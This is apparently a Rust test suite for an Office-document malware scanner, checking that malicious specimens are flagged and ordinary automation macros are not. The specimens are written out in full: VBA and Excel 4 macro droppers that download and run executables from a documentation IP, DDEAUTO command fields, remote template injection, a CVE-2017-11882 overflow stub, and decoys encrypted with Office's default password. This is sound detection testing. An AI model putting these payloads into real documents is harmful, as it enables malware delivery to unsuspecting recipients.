//! Documents as attackers send them and as offices use them, given to the program as a user would.
//!
//! All are made here; the addresses are those that RFC 5737 and RFC 2606 keep for examples, where nothing answers.

use std::fs;

use serde_json::Value;
use specimens::biff::{Hidden, Workbook, call, document, text};
use specimens::cfb::CfbBuilder;
use specimens::crypt::{FilePass, agile, standard, workbook};
use specimens::ooxml::{docm, docx, field, word, xlsm};
use specimens::rtf;
use specimens::vba::VbaBuilder;
use tempfile::TempDir;

use crate::program::{stakeout, stdout};

/// The password that Office tries by itself.
const DEFAULT_PASSWORD: &str = "VelvetSweatshop";

/// Scans `bytes` alone; answers the record.
fn record(bytes: &[u8]) -> Value {
    let dir = TempDir::new().expect("the test can make a directory");
    let path = dir.path().join("document");
    fs::write(&path, bytes).expect("the directory is ours");
    let output = stakeout().args(["scan", "--ndjson", "-j1"]).arg(&path).output().expect("the program can be started");
    let first = stdout(&output).lines().next().unwrap_or_default();
    serde_json::from_str(first).unwrap_or_else(|error| panic!("{error}: {}", stdout(&output)))
}

fn indicators(record: &Value) -> Vec<&str> {
    let evidence = record["evidence"].as_array().into_iter().flatten();
    evidence.filter_map(|seen| seen["id"].as_str()).collect()
}

/// Asks for the verdict malicious, by `because` among others.
#[track_caller]
fn check_malicious(bytes: &[u8], because: &[&str]) {
    let record = record(bytes);
    let seen = indicators(&record);
    assert_eq!(record["verdict"], "malicious", "p = {}, seen: {seen:?}", record["p_malicious"]);
    for indicator in because {
        assert!(seen.contains(indicator), "{indicator} was not seen: {seen:?}");
    }
}

/// Asks for a verdict that accuses nobody.
#[track_caller]
fn check_harmless(bytes: &[u8]) {
    let record = record(bytes);
    let verdict = record["verdict"].as_str().unwrap_or_default();
    let seen = indicators(&record);
    assert!(["benign", "unknown"].contains(&verdict), "{verdict}, p = {}: {seen:?}", record["p_malicious"]);
}

/// Starts with the document, fetches a program and runs it.
const DROPPER: &str = "Private Sub Document_Open()\r\n\
    Dim target As String\r\n\
    target = Environ(\"TEMP\") & \"\\update.exe\"\r\n\
    Shell \"powershell -w hidden -c (New-Object Net.WebClient).DownloadFile('http://198.51.100.7/u.exe','\" & target & \"')\", 0\r\n\
    Shell target, vbHide\r\n\
    End Sub\r\n";

fn dropper() -> VbaBuilder {
    VbaBuilder::new().document("ThisDocument", DROPPER)
}

#[test]
fn a_macro_that_downloads_and_runs_is_malicious_in_both_formats() {
    let because = &["office.source.autostart_document", "office.source.powershell", "office.source.shell_call"];
    check_malicious(&dropper().doc(), because);
    check_malicious(&dropper().compiled(2_000).doc(), because);
    check_malicious(&docm().vba_project(&dropper().bin()).build(), because);
}

#[test]
fn a_workbook_macro_that_saves_and_starts_a_program_is_malicious() {
    let source = "Sub Workbook_Open()\r\n\
        Set http = CreateObject(\"MSXML2.XMLHTTP\")\r\n\
        http.Open \"GET\", \"http://198.51.100.7/a.exe\", False\r\n\
        http.Send\r\n\
        Set stream = CreateObject(\"ADODB.Stream\")\r\n\
        stream.Type = 1: stream.Open: stream.Write http.ResponseBody\r\n\
        stream.SaveToFile Environ(\"APPDATA\") & \"\\a.exe\", 2\r\n\
        CreateObject(\"WScript.Shell\").Run Environ(\"APPDATA\") & \"\\a.exe\", 0\r\n\
        End Sub\r\n";
    let project = VbaBuilder::new().document("ThisWorkbook", source);
    let because = &["office.source.autostart_workbook", "office.source.downloads", "office.source.scripting_shell"];
    check_malicious(&project.xls(), because);
    check_malicious(&xlsm().vba_project(&project.bin()).build(), because);
}

#[test]
fn a_macro_with_its_words_taken_apart_is_malicious() {
    let source = "Sub AutoOpen()\r\n\
        a = \"po\" & \"wer\" & \"sh\" & \"ell -e\" & \"nc \"\r\n\
        b = Chr(104) & Chr(116) & Chr(116) & Chr(112) & Chr(58) & Chr(47) & Chr(47) & Chr(120)\r\n\
        CreateObject(\"WScr\" & \"ipt.Sh\" & \"ell\").Run a & b, 0\r\n\
        End Sub\r\n";
    check_malicious(&VbaBuilder::new().document("ThisDocument", source).doc(), &["office.source.split_word"]);
}

/// Excel 4 macros on a hidden sheet, run when the workbook opens.
fn excel4() -> Workbook {
    let download = call(
        "CALL",
        [text("urlmon"), text("URLDownloadToFileA"), text("JJCCJJ"), text("http://198.51.100.7/a.exe"), text("a.exe")],
    );
    Workbook::new()
        .worksheet("Sheet1", Hidden::No)
        .macro_sheet("Macro1", Hidden::Very)
        .formula(0, 0, &download)
        .formula(1, 0, &call("EXEC", [text("a.exe")]))
        .formula(2, 0, &call("HALT", []))
        .auto_open()
}

#[test]
fn excel_4_macros_on_a_hidden_sheet_are_malicious() {
    let because = &["office.xlm.hidden_macro_sheet", "office.xlm.auto_open", "office.xlm.execute"];
    check_malicious(&excel4().document(), because);
    let plain = Workbook::new().worksheet("Sheet1", Hidden::No).macro_sheet("Macro1", Hidden::Yes).auto_open();
    let plain = plain.formula(0, 0, &call("EXEC", [text("powershell -w hidden -enc aQBlAHgA")]));
    check_malicious(&plain.formula(1, 0, &call("HALT", [])).document(), because);
}

#[test]
fn an_excel_4_macro_sheet_in_a_package_is_malicious() {
    let sheet = "<xm:macrosheet xmlns:xm=\"http://schemas.microsoft.com/office/excel/2006/main\"><sheetData>\
        <row r=\"1\"><c r=\"A1\"><f>CALL(&quot;urlmon&quot;,&quot;URLDownloadToFileA&quot;,&quot;JJCCJJ&quot;,0,\
        &quot;http://198.51.100.7/a.exe&quot;,&quot;a.exe&quot;,0,0)</f><v>0</v></c></row>\
        <row r=\"2\"><c r=\"A2\"><f>EXEC(&quot;a.exe&quot;)</f><v>0</v></c></row></sheetData></xm:macrosheet>";
    let book = "<workbook><sheets><sheet name=\"M\" sheetId=\"1\" state=\"veryHidden\"/></sheets><definedNames>\
        <definedName name=\"_xlnm.Auto_Open\">M!$A$1</definedName></definedNames></workbook>";
    let file = xlsm()
        .part("xl/macrosheets/sheet1.xml", sheet.as_bytes())
        .content_type("xl/macrosheets/sheet1.xml", "application/vnd.ms-excel.macrosheet+xml")
        .part("xl/workbook.xml", book.as_bytes());
    check_malicious(&file.build(), &["office.xlm.very_hidden_sheet", "office.xlm.auto_open", "office.xlm.execute"]);
}

#[test]
fn a_template_fetched_from_elsewhere_is_malicious() {
    let file = docx().external("word/settings.xml", "attachedTemplate", "http://198.51.100.7/t.dotm");
    check_malicious(&file.part("word/settings.xml", b"<w:settings/>").build(), &["office.package.template_remote"]);
    check_malicious(&rtf::rtf("{\\*\\template http://198.51.100.7/t.dotm}"), &["office.rtf.template_remote"]);
}

#[test]
fn a_dde_field_that_starts_a_command_is_malicious() {
    let instruction = "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k powershell -c calc\"";
    let because = &["office.dde.auto", "office.dde.command"];
    check_malicious(&docx().part("word/document.xml", word(&field(&[instruction])).as_bytes()).build(), because);
    let torn = field(&["DDE", "AUTO c:\\\\windows\\\\sys", "tem32\\\\cmd.exe \"/k calc\""]);
    check_malicious(&docx().part("word/document.xml", word(&torn).as_bytes()).build(), because);
    check_malicious(&rtf::rtf(&rtf::field("DDEAUTO cmd.exe \"/k calc\"")), because);
}

#[test]
fn objects_that_exploit_or_run_are_malicious_in_rtf() {
    // A font name longer than the buffer it is copied to: CVE-2017-11882.
    let mut equation = vec![0; 28];
    equation[0] = 28;
    equation.extend([3, 1, 1, 3, 10, 0x0a, 1, 8, 0x5a, 0x5a]);
    equation.extend([b'A'; 60]);
    let class = "0002CE02-0000-0000-C000-000000000046";
    let inner = CfbBuilder::new().class(class).stream("Equation Native", &equation).build();
    let object = rtf::object("\\objupdate", &rtf::ole1("Equation.3", &inner));
    check_malicious(&rtf::rtf(&object), &["office.object.equation_overflow", "office.rtf.auto_update"]);
    let program = specimens::pe::ordinary().build();
    let package = rtf::ole1("Package", &rtf::package("invoice.pdf.exe", &program));
    check_malicious(&rtf::rtf(&rtf::object("\\objupdate", &package)), &["office.object.executable"]);
}

#[test]
fn droppers_behind_the_default_password_are_malicious() {
    let package = docm().vba_project(&dropper().bin()).build();
    let because = &["office.crypt.default_password", "office.source.powershell"];
    check_malicious(&standard(&package, DEFAULT_PASSWORD), because);
    check_malicious(&agile(&package, DEFAULT_PASSWORD, 1_000), because);
    let because = &["office.crypt.default_password", "office.xlm.execute"];
    for method in [FilePass::Rc4, FilePass::CryptoApi, FilePass::Xor] {
        check_malicious(&document(&workbook(&excel4(), DEFAULT_PASSWORD, method)), because);
    }
}

#[test]
fn what_cannot_be_decrypted_is_unknown_with_the_reason() {
    let package = docm().vba_project(&dropper().bin()).build();
    for file in [
        standard(&package, "of our own"),
        agile(&package, "of our own", 1_000),
        document(&workbook(&excel4(), "of our own", FilePass::CryptoApi)),
    ] {
        let record = record(&file);
        assert_eq!(record["verdict"], "unknown", "p = {}: {:?}", record["p_malicious"], indicators(&record));
        assert_eq!(record["incomplete"], serde_json::json!(["file.encrypted"]));
    }
}

/// What people automate, in the words they use for it.
const TOOLS: &[(&str, &str)] = &[
    (
        "sort cells",
        "' Sorts the list by name, then by date.\r\nSub SortList()\r\n\
         ActiveSheet.Sort.SortFields.Clear\r\n\
         Range(\"A2:D200\").Sort Key1:=Range(\"A2\"), Order1:=xlAscending, Header:=xlYes\r\nEnd Sub\r\n",
    ),
    (
        "format",
        "Sub FormatReport()\r\nWith Selection.Font\r\n.Name = \"Arial\"\r\n.Size = 10\r\n.Bold = True\r\nEnd With\r\n\
         Columns(\"A:F\").AutoFit\r\nActiveSheet.PageSetup.Orientation = xlLandscape\r\nEnd Sub\r\n",
    ),
    (
        "select a sheet",
        "Private Sub Workbook_Open()\r\nSheets(\"Start\").Select\r\nRange(\"A1\").Select\r\nEnd Sub\r\n",
    ),
    (
        "functions",
        "' The tax on an amount.\r\nFunction Tax(amount As Double, rate As Double) As Double\r\n\
         If amount < 0 Then\r\nTax = 0\r\nElse\r\nTax = Round(amount * rate / 100, 2)\r\nEnd If\r\nEnd Function\r\n\
         Function Quarter(day As Date) As Integer\r\nQuarter = (Month(day) - 1) \\ 3 + 1\r\nEnd Function\r\n",
    ),
    (
        "buttons",
        "Private Sub CommandButton1_Click()\r\nIf TextBox1.Value = \"\" Then\r\n\
         MsgBox \"Please enter a name.\", vbExclamation\r\nExit Sub\r\nEnd If\r\n\
         MsgBox \"Saved.\", vbInformation\r\nUnload Me\r\nEnd Sub\r\n",
    ),
];

#[test]
fn macros_that_only_automate_are_not_accused() {
    for (name, source) in TOOLS {
        eprintln!("{name}");
        let project = VbaBuilder::new().document("ThisWorkbook", "").module("Module1", source).compiled(1_500);
        check_harmless(&project.xls());
        check_harmless(&xlsm().vba_project(&project.bin()).build());
        let project = VbaBuilder::new().document("ThisDocument", source);
        check_harmless(&project.doc());
    }
    let all: String = TOOLS.iter().map(|(_, source)| *source).collect();
    check_harmless(
        &VbaBuilder::new().module("Module1", &all).compiled(5_000).form("Form1", b"Name of the customer").xls(),
    );
}

#[test]
fn documents_without_macros_are_benign() {
    let text = word("<w:p><w:r><w:t>Dear all, the figures are attached.</w:t></w:r></w:p>");
    let link = docx().external("word/document.xml", "hyperlink", "https://example.com/report");
    for file in [
        docx().part("word/document.xml", text.as_bytes()).build(),
        link.build(),
        Workbook::new().worksheet("Sheet1", Hidden::No).worksheet("Lists", Hidden::Yes).document(),
        rtf::rtf("{\\fonttbl{\\f0 Arial;}}\\f0 Dear all,\\par the figures are attached.\\par"),
    ] {
        assert_eq!(record(&file)["verdict"], "benign");
    }
}

#[test]
fn explain_shows_the_lines_of_the_macro() {
    let dir = TempDir::new().expect("the test can make a directory");
    let explain = |name: &str, bytes: &[u8]| {
        let path = dir.path().join(name);
        fs::write(&path, bytes).expect("the directory is ours");
        let output = stakeout().arg("explain").arg(&path).output().expect("the program can be started");
        assert_eq!(output.status.code(), Some(1), "{}", stdout(&output));
        stdout(&output).to_owned()
    };
    for file in [dropper().doc(), docm().vba_project(&dropper().bin()).build()] {
        let text = explain("macros", &file);
        // The line that `Attribute VB_Name` stands in counts, as it does in an exported module.
        for expected in ["line 2", "Document_Open()", "line 5", "DownloadFile('http://198.51.100.7/u.exe'"] {
            assert!(text.contains(expected), "{expected} is missing:\n{text}");
        }
    }
    let text = explain("sheet", &excel4().document());
    for expected in ["Macro1!A2: =EXEC(\"a.exe\")", "URLDownloadToFileA"] {
        assert!(text.contains(expected), "{expected} is missing:\n{text}");
    }
}
